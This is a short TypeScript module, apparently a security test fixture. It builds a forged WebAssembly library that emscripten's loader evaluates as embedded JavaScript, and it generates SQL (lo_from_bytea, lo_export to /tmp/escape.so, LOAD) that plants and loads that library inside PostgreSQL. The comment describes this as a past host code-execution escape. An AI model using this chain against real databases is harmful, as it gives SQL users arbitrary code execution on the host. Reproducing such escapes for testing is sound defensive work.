/**
 * A library of a few hundred bytes that emscripten's loader takes for one with JavaScript inside, and evaluates: by it
 * a superuser's SQL ran code on the host. Written byte by byte, since it is what an attacker would send.
 */
export function sideLibrary(javaScript: string): Uint8Array {
  const text = new TextEncoder().encode(`(void)<::>0;${javaScript}\0`);
  const name = (value: string) => [...number(value.length), ...new TextEncoder().encode(value)];
  const memoryInfo = [...number(text.length), 0, 0, 0];
  return Uint8Array.from([
    ...[0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00],
    ...section(0, [...name("dylink.0"), 1, ...number(memoryInfo.length), ...memoryInfo]),
    // env.memory, and env.__memory_base as a constant i32.
    ...section(2, [
      2,
      ...name("env"),
      ...name("memory"),
      2,
      0,
      0,
      ...name("env"),
      ...name("__memory_base"),
      3,
      0x7f,
      0,
    ]),
    // A constant 0, exported as the address of a text: the loader adds where the library lies.
    ...section(6, [1, 0x7f, 0, 0x41, 0, 0x0b]),
    ...section(7, [1, ...name("__em_js__escape"), 3, 1]),
    ...section(11, [1, 0, 0x23, 0, 0x0b, ...number(text.length), ...text]),
  ]);
}

/** SQL that writes a library into PostgreSQL's files and loads it. */
export function escapeBy(library: Uint8Array): string {
  const base64 = Buffer.from(library).toString("base64");
  return `select lo_from_bytea(424242, decode('${base64}', 'base64'));
select lo_export(424242, '/tmp/escape.so');
load '/tmp/escape.so'`;
}

function section(id: number, contents: readonly number[]): number[] {
  return [id, ...number(contents.length), ...contents];
}

/** Unsigned LEB128. */
function number(value: number): number[] {
  const low = value & 0x7f;
  return value < 0x80 ? [low] : [low | 0x80, ...number(value >>> 7)];
}
